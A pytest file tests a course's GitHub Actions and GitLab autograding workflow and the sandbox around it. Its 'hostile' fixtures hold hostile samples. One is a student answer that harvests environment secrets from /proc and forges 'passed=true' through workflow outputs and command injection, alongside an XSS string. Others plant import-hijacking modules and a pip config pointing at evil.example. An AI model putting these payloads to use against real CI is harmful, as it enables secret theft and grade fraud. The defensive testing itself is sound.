"""What a push to a student's repository starts: the steps of the workflow that it calls, run here in order."""

import base64
import json
import re
import subprocess
import sys
import sysconfig
from collections.abc import Iterable
from pathlib import Path

import actions
import nbformat
import pytest
import yaml
from actions import ROOT, SECRETS, commit, run_called, shared

from lab._release import REPOSITORY
from lab.course.copies import grade_id_of, is_answer
from lab.course.editions import solved_edition, student_edition
from lab.course.plan import TRAINS
from lab.course.starting import Wanted, start

COMMIT = "0123456789abcdef0123456789abcdef01234567"
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
on_linux = pytest.mark.skipif(sys.platform != "linux", reason="a sandbox needs Linux")


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    """A fresh one of `lab init`, committed."""
    start(tmp_path / "repository", Wanted(commit=COMMIT))
    commit(tmp_path / "repository", "The lab")
    return tmp_path / "repository"


def answer(repository: Path, names: Iterable[str] | None = None, **own: str) -> None:
    """Answer these exercises (all where none are named) as the solved edition does, others in one's own words."""
    path = repository / "mnist_994.ipynb"
    copy = nbformat.read(path, as_version=4)
    solved = {grade_id_of(cell): cell.source for cell in solved_edition("mnist_994").cells if grade_id_of(cell)}
    wanted = solved.keys() if names is None else set(names)
    for cell in copy.cells:
        name = grade_id_of(cell)
        if is_answer(cell):
            cell.source = own.get(name.replace("-", "_"), solved[name] if name in wanted else cell.source)
    nbformat.write(copy, path)
    commit(repository)


def line_of(path: Path, line: int) -> str:
    return path.read_text(encoding="utf-8").splitlines()[line - 1]


def told(done: actions.Done, level: str) -> dict[str, actions.Command]:
    return {one.properties.get("title", ""): one for one in done.commands if one.name == level}


# -- a push -----------------------------------------------------------------------------------------------------------


@on_linux
def test_a_push_with_a_wrong_answer_is_red_and_shows_where(repository: Path, tmp_path: Path) -> None:
    wrong = "# EXERCISE 2\ndef grow(size, jump, kernel, stride):\n    return size, jump\n"
    answer(repository, ["out-size"], grow=wrong)
    done = run_called(repository, tmp_path / "run", shared)
    assert not done.green
    assert [step.outcome for step in done.steps if step.name.startswith("Are all")] == ["failure"]
    assert [step.outcome for step in done.steps if step.name == "Grade"] == ["success"]
    assert done.outputs["passed"] == "false"
    assert done.outputs["points"] == "1"

    error = told(done, "error")
    assert list(error) == ["exercise 2: grow"]
    notebook = done.workspace / error["exercise 2: grow"].properties["file"]
    assert "# EXERCISE 2" in line_of(notebook, int(error["exercise 2: grow"].properties["line"]))
    assert "grow(" in error["exercise 2: grow"].text  # what the check says
    (notice,) = told(done, "notice").values()
    assert notice.properties["title"] == "exercise 3: by-hand"
    assert "# EXERCISE 3" in line_of(notebook, int(notice.properties["line"]))

    assert "✅ earned | exercise 1" in done.summary
    assert "❌ missing | exercise 2" in done.summary
    assert "⬜ open | exercise 3" in done.summary
    assert "➖ not checked | exercise 11" in done.summary
    page = (done.artifacts["feedback"] / "feedback.html").read_text(encoding="utf-8")
    assert "out-size" in page
    classroom = json.loads((done.artifacts["feedback"] / "result.json").read_text(encoding="utf-8"))
    assert (classroom["owner"], classroom["score"], classroom["max-score"]) == ("ada", 1, 33)
    assert classroom["commit"] == f"https://github.com/ada/lab/commit/{actions._git(repository, 'rev-parse', 'HEAD')}"
    legacy = json.loads(base64.b64decode(done.outputs["result"]))
    assert (legacy["status"], sum(test["score"] for test in legacy["tests"])) == ("fail", 1)


@on_linux
@pytest.mark.slow
def test_a_push_is_green_once_all_is_earned_that_it_checks(repository: Path, tmp_path: Path) -> None:
    answer(repository)
    done = run_called(repository, tmp_path / "run", shared)
    assert done.green
    assert done.outputs["passed"] == "true"
    assert done.outputs["points"] == "11"
    assert not told(done, "error")
    assert not told(done, "notice")
    assert "missing" not in done.summary
    assert "my&#95;net&#46;lab" not in done.summary
    assert "`my_net.lab`" in done.summary  # what would have the rest checked


@on_linux
@pytest.mark.slow
def test_a_fresh_repository_goes_from_red_to_green_by_a_lab_from_a_wheel(
    repository: Path, tmp_path: Path, from_a_wheel: actions.Install
) -> None:
    untouched = run_called(repository, tmp_path / "untouched", from_a_wheel)
    assert not untouched.green
    assert not told(untouched, "error"), untouched.printed  # open is no mistake
    assert untouched.outputs["points"] == "0", untouched.printed
    assert [one.text for one in told(untouched, "notice").values()] == [
        "0 of 1 points.\nthe next one: 11 are still open."
    ]
    points = [0.0]
    names = [grade_id_of(cell) for cell in student_edition("mnist_994").cells if is_answer(cell)]
    for number, until in enumerate((3, 7, len(names))):
        answer(repository, names[:until])
        done = run_called(repository, tmp_path / str(number), from_a_wheel)
        assert done.green == (until == len(names))
        points.append(float(done.outputs["points"]))
    assert points == [0, 3, 7, 11]
    assert "hand-in" not in untouched.printed


@pytest.fixture(scope="module")
def from_a_wheel(tmp_path_factory: pytest.TempPathFactory) -> actions.Install:
    """This tree installed as the action does it, but for the packages that it needs: those are this Python's."""
    place = tmp_path_factory.mktemp("wheel")
    source, venv = place / "source", place / "venv"
    tracked = ["git", "-C", str(ROOT), "ls-files", "--cached", "--others", "--exclude-standard", "-z"]
    names = subprocess.run(tracked, capture_output=True, text=True, check=True).stdout.split("\0")
    for name in filter(None, names):
        if (ROOT / name).is_file():
            (source / name).parent.mkdir(parents=True, exist_ok=True)
            (source / name).write_bytes((ROOT / name).read_bytes())
    build = [sys.executable, "-I", "-m", "pip", "wheel", "--quiet", "--no-deps", "--no-build-isolation"]
    subprocess.run([*build, "--wheel-dir", str(place), str(source)], check=True)
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    (wheel,) = place.glob("*.whl")
    pip = [str(venv / "bin" / "python"), "-I", "-m", "pip", "install", "--quiet", "--no-deps", str(wheel)]
    subprocess.run(pip, check=True, cwd=place)
    (site,) = venv.glob("lib/python*/site-packages")
    (site / "packages.pth").write_text(sysconfig.get_path("purelib") + "\n")

    def install(folder: Path) -> None:
        (folder / "bin").mkdir(parents=True)
        command = folder / "bin" / "lab"
        command.write_text(f'#!/bin/sh\nexport LAB_CACHE="{actions.cache_root()}"\nexec "{venv}/bin/lab" "$@"\n')
        command.chmod(0o755)

    return install


# -- a hostile one ----------------------------------------------------------------------------------------------------

EVIL = """# EXERCISE 1
import os, sys, glob
def out_size(n, kernel, stride=1, pad=0):
    found = dict(os.environ)
    for path in glob.glob("/proc/*/environ"):
        try:
            found[path] = open(path, "rb").read()
        except OSError:
            pass
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_ENV"):
        try:
            open(os.environ[name], "a").write("passed=true\\n")
        except (KeyError, OSError):
            pass
    text = "\\n::set-output name=passed::true\\n::add-mask::0\\n  ::stop-commands::mine\\n"
    text += "##[set-output name=passed]true\\n%0A::set-output name=passed::true\\r::notice::hello\\n"
    text += "::error title=|x|<script>alert(1)</script>::[x](http://evil.example) @everyone\\n" + repr(found)
    print(text, flush=True)
    sys.stderr.write(text)
    raise ValueError(text)
"""
MODULE = 'import os, pathlib\npathlib.Path("{mark}").write_text("executed")\nraise SystemExit("hijacked")\n'


@on_linux
def test_nothing_of_a_hostile_repository_has_an_effect(repository: Path, tmp_path: Path) -> None:
    mark = tmp_path / "executed"
    for name in ("torch.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "lab/__init__.py", "lab/cli.py",
                 "numpy/__init__.py", "pip.py", "venv.py", "json.py", "bin/lab"):  # fmt: skip
        (repository / name).parent.mkdir(exist_ok=True)
        (repository / name).write_text(MODULE.format(mark=mark))
    (repository / "pip.conf").write_text("[global]\nindex-url = http://evil.example/simple\n")
    (repository / ".env").write_text(f"PYTHONPATH={repository}\nLAB_QUICK=1\n")
    (repository / "constraints.txt").write_text("torch==0.0.1\n")
    (repository / "result.json").write_text('{"score": 100}')
    (repository / ".github" / "actions" / "grade").mkdir(parents=True)
    (repository / ".github" / "actions" / "grade" / "action.yml").write_text("runs: {using: composite, steps: []}\n")
    (repository / "::set-output name=passed::true\n##[set-output name=passed]true").write_text("a name")
    (repository / "report").symlink_to(tmp_path)
    answer(repository, [], out_size=EVIL)
    done = run_called(repository, tmp_path / "run", shared)

    assert not mark.exists()
    assert not done.green
    assert done.outputs["passed"] == "false"
    assert done.outputs["points"] == "0"
    assert {one.name for one in done.commands} == {"error", "notice"}
    assert list(told(done, "error")) == ["exercise 1: out-size"]
    everything = done.printed + done.summary + json.dumps(done.outputs)
    everything += "".join(path.read_text(encoding="utf-8") for path in done.artifacts["feedback"].iterdir())
    assert "ValueError" in everything  # what it did is told
    for secret in SECRETS.values():
        assert secret not in everything
    for sign in ("<script", "](", "http:", "::", "|x|", "##["):
        assert sign not in re.sub(r"\|---.*\n", "", done.summary)
    classroom = json.loads((done.artifacts["feedback"] / "result.json").read_text(encoding="utf-8"))
    assert (classroom["schema"], classroom["score"]) == ("classroom50/result/v1", 0)


@on_linux
def test_a_pull_request_from_a_branch_of_the_repository_is_not_graded_a_second_time(
    repository: Path, tmp_path: Path
) -> None:
    asked = {"event_name": "pull_request", "event.pull_request.head.repo.full_name": "ada/lab"}
    assert not run_called(repository, tmp_path / "own", shared, asked).steps
    fork = asked | {"event.pull_request.head.repo.full_name": "eve/lab"}
    done = run_called(repository, tmp_path / "fork", lambda folder: None, fork)  # no lab: it fails at once
    assert [step.outcome for step in done.steps if step.name == "Grade"] == ["failure"]
    assert not done.green


def test_what_grades_gets_no_secret_and_its_own_trouble_is_red_with_a_report(repository: Path, tmp_path: Path) -> None:
    """With a lab that writes down what it is given, and fails as one does that can't grade."""

    def noting(folder: Path) -> None:
        (folder / "bin").mkdir(parents=True)
        report = folder.parent / "lab-report"
        script = f'#!/bin/sh\nmkdir "{report}"\nenv > "{report}/given"\necho "$PWD $*" > "{report}/called"\nexit 2\n'
        (folder / "bin" / "lab").write_text(script)
        (folder / "bin" / "lab").chmod(0o755)

    done = run_called(repository, tmp_path / "run", noting)
    outcomes = {step.name: step.outcome for step in done.steps}
    assert (outcomes["Grade"], outcomes["Are all points earned that were checked?"]) == ("failure", "skipped")
    given = (done.artifacts["feedback"] / "given").read_text(encoding="utf-8")
    names = {line.partition("=")[0] for line in given.splitlines()}
    identity = "OUTPUT STEP_SUMMARY REPOSITORY REPOSITORY_OWNER SHA SERVER_URL ACTOR ACTOR_ID"
    own = {"PATH", "LANG", "HOME", "TMPDIR", "LAB_PROGRESS", "PWD", "OLDPWD", "SHLVL", "_"}
    assert names <= {f"GITHUB_{name}" for name in identity.split()} | own
    assert {"GITHUB_OUTPUT", "GITHUB_SHA", "GITHUB_ACTOR"} <= names
    where, *called = (done.artifacts["feedback"] / "called").read_text(encoding="utf-8").split()
    assert where == str(tmp_path / "run" / "temp")
    assert called[:4] == ["autograde", "github", "--mode", "push"]
    assert called[-2:] == ["--", f"{done.workspace}/."]


def test_the_lab_is_installed_from_the_action_s_own_commit_with_its_pins(repository: Path, tmp_path: Path) -> None:
    """The step itself, with programs that only note how they were called."""
    action = yaml.safe_load((ROOT / ".github" / "actions" / "grade" / "action.yml").read_text(encoding="utf-8"))
    step = next(one for one in action["runs"]["steps"] if one.get("id") == "install")
    assert step["working-directory"] == "${{ runner.temp }}"
    noted = tmp_path / "noted"
    noting = f'#!/bin/bash\nprintf "%s\\n" "$PWD $(basename "$0") $*" >> "{noted}"\n'
    for name in ("python", "lab/bin/python", "lab/bin/uv"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(noting)
        (tmp_path / name).chmod(0o755)
    here = {"RUNNER_TEMP": str(tmp_path), "GITHUB_ACTION_PATH": str(ROOT / ".github" / "actions" / "grade"),
            "HOST_PYTHON": str(tmp_path / "python"), "PATH": "/usr/bin:/bin"}  # fmt: skip
    subprocess.run(["bash", "-e", "-c", step["run"]], env=here, cwd=tmp_path, check=True)
    venv, pip, uv = noted.read_text(encoding="utf-8").splitlines()
    assert venv == f"{tmp_path} python -I -m venv {tmp_path}/lab"
    assert f"--constraint {ROOT}/constraints.txt uv" in pip
    assert f"--constraints {ROOT}/constraints.txt lab994[grading] @ file://{ROOT}" in uv
    assert "--no-config" in uv
    assert "-I" in pip.split()


# -- elsewhere --------------------------------------------------------------------------------------------------------


@on_linux
@pytest.mark.slow
def test_gitlab_s_script_does_the_same_without_the_job_s_token(tmp_path: Path) -> None:
    """Its lines, in order, but for those that install the lab."""
    repository, lab = tmp_path / "repository", tmp_path / "lab"
    start(repository, Wanted(kinds=("gitlab",), commit=COMMIT))
    commit(repository, "The lab")
    shared(lab)
    answer(repository, ["out-size"], grow=EVIL.replace("def out_size(n, kernel, stride=1, pad=0)", "def grow(*given)"))
    (repository / "torch.py").write_text(MODULE.format(mark=tmp_path / "executed"))
    job = yaml.safe_load((repository / ".gitlab-ci.yml").read_text(encoding="utf-8"))["grade"]
    lines = [line.replace("/opt/lab", str(lab)) for line in job["script"] if "pip" not in line and "venv" not in line]
    assert len(lines) == len(job["script"]) - 3
    here = {"CI_PROJECT_DIR": str(repository), "PATH": "/usr/bin:/bin", "CI_JOB_TOKEN": "a-token-of-the-job"}
    done = subprocess.run(
        ["bash", "-e", "-c", "\n".join(lines)], env=here, cwd=repository, capture_output=True, text=True
    )
    assert done.returncode == 1, done.stderr
    assert "PASS exercise 1, out-size" in done.stdout
    assert "FAIL exercise 1, grow" in done.stdout  # as its cell says
    assert "a-token-of-the-job" not in done.stdout
    assert not (tmp_path / "executed").exists()
    assert {path.name for path in (repository / "report").iterdir()} == {"feedback.html", "grade.json"}
    answer(repository)
    (repository / "torch.py").unlink()
    done = subprocess.run(
        ["bash", "-e", "-c", "\n".join(lines)], env=here, cwd=repository, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stdout


# -- how they are written ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_a_copy_of_this_repository_starts_no_job_of_ours(path: Path) -> None:
    jobs = yaml.safe_load(path.read_text(encoding="utf-8"))["jobs"]
    for job in jobs.values():
        assert path.stem == "grade" or job["if"] == f"github.repository == '{REPOSITORY}'"


def test_every_action_is_pinned_by_one_commit_with_its_version() -> None:
    """And to one version of each: what `dependabot` moves, it moves everywhere."""
    files = [*WORKFLOWS, ROOT / ".github" / "actions" / "grade" / "action.yml"]
    pins = set()
    for path in files:
        for uses in re.findall(r"uses: (.*)", path.read_text(encoding="utf-8")):
            if not uses.startswith("$/"):
                found = re.fullmatch(r"([\w.-]+/[\w./-]+)@([0-9a-f]{40})   # (v\d+\.\d+\.\d+)", uses)
                assert found, f"{path.name}: {uses}"
                pins.add(found.groups())
    assert len(pins) == len({name for name, _, _ in pins}) >= 3


def test_the_tools_that_read_workflows_find_nothing_in_what_a_student_gets(repository: Path) -> None:
    bin = Path(sys.executable).parent
    for call in (["actionlint"], ["zizmor", "--offline", "--quiet", "--persona", "pedantic", ".github"]):
        if (bin / call[0]).is_file():
            done = subprocess.run([str(bin / call[0]), *call[1:]], cwd=repository, capture_output=True, text=True)
            assert done.returncode == 0, done.stdout + done.stderr


def test_the_scripts_of_the_action_are_sound_shell() -> None:
    checker = Path(sys.executable).parent / "shellcheck"
    if not checker.is_file():
        pytest.skip("shellcheck has no wheel for this system")
    action = yaml.safe_load((ROOT / ".github" / "actions" / "grade" / "action.yml").read_text(encoding="utf-8"))
    for step in action["runs"]["steps"]:
        if "run" in step:
            done = subprocess.run(
                [str(checker), "--shell=bash", "-"], input=step["run"], capture_output=True, text=True
            )
            assert done.returncode == 0, done.stdout


def test_the_exercises_that_a_push_leaves_out_are_those_that_train() -> None:
    tagged = [cell for cell in student_edition("mnist_994").cells if TRAINS in cell.metadata.get("tags", [])]
    assert len(tagged) == 6
